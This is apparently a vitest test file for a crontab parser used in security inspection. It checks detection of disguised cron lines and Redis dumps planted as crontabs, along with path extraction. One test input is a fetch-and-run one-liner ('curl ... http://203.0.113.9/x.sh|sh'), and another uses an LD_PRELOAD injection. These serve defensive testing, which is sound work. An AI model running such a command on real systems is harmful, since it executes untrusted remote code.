import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { isBinary, isDisguised, parseCrontab, pathsIn } from './cron-line.ts'

describe('a crontab', () => {
  it('gives every line but comments and empty ones, numbered as an editor does', () => {
    const { lines } = parseCrontab(
      '# x\n\nA = b\n  \t*/5 * * * * /bin/x %in\n -@daily\tfoo\nbroken line\n',
      'no-user',
      100,
    )
    expect(lines.map(({ line, form, schedule, command }) => [line, form, schedule, command])).toEqual([
      [3, 'environment', null, 'A = b'],
      [4, 'entry', '*/5 * * * *', '/bin/x %in'],
      [5, 'entry', '@daily', 'foo'],
      [6, 'entry', null, 'broken line'],
    ])
  })

  it('keeps the exact bytes of the line', () => {
    const raw = '  * * * * * \xff\x1b[A /x  '
    expect(parseCrontab(raw, 'no-user', 9).lines[0]?.raw).toBe(raw)
  })

  it('reads the user column of system tables', () => {
    const { lines } = parseCrontab('17 *\t* * *\troot    cd / && x\n* * * * * alone\n', 'user', 9)
    expect(lines).toMatchObject([
      { user: 'root', command: 'cd / && x', periodSeconds: 3600 },
      { user: 'alone', command: '' },
    ])
  })

  it('reads anacrontab', () => {
    const { lines } = parseCrontab(
      `SHELL=/bin/sh\n7\t10\tcron.weekly\trun-parts /etc/cron.weekly\n@monthly 15 m x\n${'9'.repeat(30)} 1 long x\n`,
      'anacron',
      9,
    )
    expect(lines.slice(1)).toMatchObject([
      { schedule: '7', periodSeconds: 604_800, user: 'root', command: 'run-parts /etc/cron.weekly' },
      { schedule: '@monthly', command: 'x' },
      { user: 'root', command: 'x', periodSeconds: null },
    ])
  })

  it('takes a leading word with an equals sign for an environment line, and a command with one for an entry', () => {
    const { lines } = parseCrontab('PATH=/tmp/bin:/bin\n"A B"=c\n* * * * * LD_PRELOAD=/x.so /bin/y\n', 'no-user', 9)
    expect(lines.map(({ form }) => form)).toEqual(['environment', 'environment', 'entry'])
  })

  it('says how much it left when there is too much', () => {
    const { lines, rest } = parseCrontab('* * * * * x\n'.repeat(50), 'no-user', 20)
    expect([lines.length, rest]).toEqual([20, 30])
  })

  it('loses no line, whatever the bytes', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (content) => {
        const { lines } = parseCrontab(content, 'user', 1000)
        const expected = content.split('\n').filter((line) => !/^[ \t]*(#|$)/.test(line) || /^[ \t]*[^ \t#]/.test(line))
        expect(lines.map(({ raw }) => raw)).toEqual(expected)
      }),
    )
  })
})

describe('disguise', () => {
  it('is a carriage return, an escape, a NUL, or blanks beyond the screen', () => {
    for (const text of ['* * * * * x\r', 'a\x1b[1A', 'a\0b', `a${' '.repeat(120)}b`])
      expect(isDisguised(text)).toBe(true)
    for (const text of ['* * * * * x', `a${' '.repeat(119)}b`, 'caf\xc3\xa9']) expect(isDisguised(text)).toBe(false)
  })

  it('knows a dump of Redis', () => {
    expect(isBinary('REDIS0006\xfe')).toBe(true)
    expect(isBinary('* * * * * x\n\0')).toBe(true)
    expect(isBinary('* * * * * redis-cli\n')).toBe(false)
  })
})

describe('paths in a command', () => {
  it('are the absolute ones, in order and once', () => {
    expect(pathsIn('cd /opt/a && /opt/a/run -c=/etc/b.json >/dev/null 2>&1; "/opt/c d" | (/opt/a/run)')).toEqual([
      '/opt/a',
      '/opt/a/run',
      '/etc/b.json',
      '/opt/c',
    ])
  })

  it('are not parts of URLs', () => {
    expect(pathsIn('curl -fsSL http://203.0.113.9/x.sh|sh')).toEqual([])
  })

  it('are at most sixteen', () => {
    expect(pathsIn(Array.from({ length: 40 }, (_, at) => `/x${at}`).join(' '))).toHaveLength(16)
  })
})
